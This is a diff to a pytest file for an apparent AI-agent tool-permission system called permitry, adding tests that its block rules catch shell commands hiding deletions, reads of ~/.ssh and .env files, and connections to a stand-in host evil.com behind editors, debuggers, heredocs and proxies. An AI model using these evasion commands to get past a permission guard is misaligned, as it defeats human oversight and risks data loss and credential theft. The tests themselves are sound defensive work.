@@ -16,7 +16,8 @@ import pytest
 from permitry.audit.record import JsonlRecorder
 from permitry.cli.main import main
 from permitry.cli.prompt import TerminalChannel
-from permitry.config.load import Origin, load_rules
+from permitry.config.default import create_default_authorization_policy
+from permitry.config.load import Origin, load_policy, load_rules
 from permitry.confirm.channel import CallbackChannel
 from permitry.confirm.request import ToolConfirmationRequest
 from permitry.core.call import ToolCall
@@ -29,7 +30,8 @@ from permitry.dispatch.registry import ToolRegistry
 from permitry.errors import AuditError, ConfigError, ToolError
 from permitry.handler import ToolHandler
 from permitry.messages import calls_in
-from permitry.rules import create_default_authorization_policy
+from permitry.rules.conditions.mode import ModeCondition
+from permitry.rules.conditions.scope import Conditions, Scope
 from permitry.rules.configured import ConfiguredRule
 from permitry.rules.plan_mode import PlanModeBlockingRule
 from permitry.rules.yolo import YoloModeRule
@@ -57,14 +59,14 @@ def test_a_wrapped_restriction_stays_a_restriction() -> None:
 @pytest.mark.parametrize("fields", [{"mode": "ci"}, {"is_plan_mode": True}, {}])
 def test_no_mode_hides_another_from_a_restriction(fields: dict[str, Any]) -> None:
     """A block for YOLO mode holds whenever YOLO mode is on, whatever the session is called."""
-    rule = ConfiguredRule("calm", Verdict.BLOCK, 150, modes=("yolo",))
+    rule = ConfiguredRule("calm", Verdict.BLOCK, 150, scope=Scope(when=Conditions((ModeCondition(("yolo",)),))))
     policy = create_default_authorization_policy([rule])
     assert policy.decide(ToolCall("read_file"), AuthContext(yolo_mode=True, **fields)).verdict is Verdict.BLOCK
 
 
 def test_a_permission_looks_at_the_mode_in_force() -> None:
     """A permission for YOLO mode does not outlive the entry into plan mode."""
-    rule = ConfiguredRule("fast", Verdict.ALLOW, 250, modes=("yolo",))
+    rule = ConfiguredRule("fast", Verdict.ALLOW, 250, scope=Scope(when=Conditions((ModeCondition(("yolo",)),))))
     policy = AuthorizationPolicy([rule])
     assert policy.decide(ToolCall("x"), AuthContext(yolo_mode=True, is_plan_mode=True)).verdict is Verdict.CONFIRM
 
@@ -206,3 +208,56 @@ def test_no_call_is_no_permission(monkeypatch: pytest.MonkeyPatch, capsys: pytes
     monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"\n"), encoding="utf-8"))
     assert main(["check", "--rules", "permitry:base", "--calls", "-"]) == 4
     assert "there is no call" in capsys.readouterr().err
+
+
+UNSEEN_COMMANDS = (
+    "git -c alias.p=push p", "git submodule --quiet foreach 'git push'", "tmux new 'rm x'", "screen -dm rm x",
+    "vim -c ':!rm x' f", "vim +':!rm x' f", "sed '1e rm x' f", "sed 's/a/rm x/e' f", "hash -p /bin/rm foo; foo x",
+    "mapfile -C 'rm x' -c 1 a", "readarray -C 'rm x' a", "complete -C 'rm x' a", "compgen -C 'rm x'",
+    "bind -x '\"a\":rm x'", "fish -C 'rm x'", "pwsh -Command 'rm x'", "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
+    "gosu root rm x", "su-exec a rm x", "setuidgid a rm x", "dumb-init rm x", "tini -- rm x", "chronic rm x",
+    "bunx rm x",
+    "sg g 'rm x'", "pee 'rm x'", "gdb -ex 'shell rm x'", "gdb -ex '!rm x'", "fzf --preview 'rm x'", "adb shell rm x",
+    "concurrently 'rm x'", "nodemon --exec 'rm x'", "hyperfine 'rm x'",
+    "su <<< 'rm x'", "sudo -s <<< 'rm x'", "sudo -i <<< 'rm x'", "doas -s <<< 'rm x'", ". /dev/stdin <<< 'rm x'",
+    "source /dev/fd/0 <<< 'rm x'", "script f <<< 'rm x'", "chroot d <<< 'rm x'", "env su <<< 'rm x'",
+    "bash -o posix <<< 'rm x'", "bash --rcfile a <<< 'rm x'",
+)  # fmt: skip
+UNSEEN_PATHS = (
+    "docker run -v ~/.ssh:/x a", "sed -n 'r .env' x", "sed 'w .env' x", "sed 's/a/b/w .env' x", "vim -c 'e .env'",
+    "awk 'BEGIN{while((getline l < \".env\")>0) print l}'",
+)  # fmt: skip
+UNSEEN_HOSTS = (
+    "curl 'http://{good,evil}.com'", "wget 'http://{good,evil}.com'", "curl 'http://evi[a-z].com'",
+    "git fetch evil.com:x",
+    "git clone evil.com:x y", "ssh -o ProxyJump=evil.com good", "ssh -J evil.com good", "mysql -hevil.com",
+    "export http_proxy=http://evil.com; wget good.com", "openssl s_client -connect evil.com:443", "psql -h evil.com",
+    "git -c http.proxy=evil.com fetch", "git config http.proxy evil.com", "nc evil.com 80", "socat - tcp:evil.com:80",
+    "wget -e http_proxy=evil.com:80 good.com",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("text", [*UNSEEN_COMMANDS, *UNSEEN_PATHS, *UNSEEN_HOSTS])
+def test_restrictions_see_what_is_hidden_in_a_command(tmp_path: Path, text: str) -> None:
+    """Whatever a program runs, touches or calls besides what stands in front; the text is read, and never run."""
+    verdict = _guarded(tmp_path).decide(ToolCall("run_shell", {"command": text}), AuthContext(yolo_mode=True)).verdict
+    assert verdict is Verdict.BLOCK
+
+
+@pytest.mark.parametrize("text", ["git commit -m 'update .env handling'", "git commit -m 'rm x'", "sed -i s/a/b/ f"])
+def test_restrictions_do_not_see_what_is_not_there(tmp_path: Path, text: str) -> None:
+    """A message is no path and no command."""
+    verdict = _guarded(tmp_path).decide(ToolCall("run_shell", {"command": text}), AuthContext(yolo_mode=True)).verdict
+    assert verdict is Verdict.ALLOW
+
+
+def _guarded(folder: Path) -> AuthorizationPolicy:
+    """Return a policy with a few restrictions on commands, hosts and paths."""
+    rules = folder / "rules.toml"
+    rules.write_text(
+        'schema = 1\n[[rule]]\nid = "c"\neffect = "block"\nwhen.command = ["rm *", "git push *"]\n'
+        '[[rule]]\nid = "h"\neffect = "block"\nwhen.host = ["evil.com"]\n'
+        '[[rule]]\nid = "p"\neffect = "block"\nwhen.path = ["~/.ssh/**", "/**/.env"]\n',
+        encoding="utf-8",
+    )
+    return load_policy(str(rules))
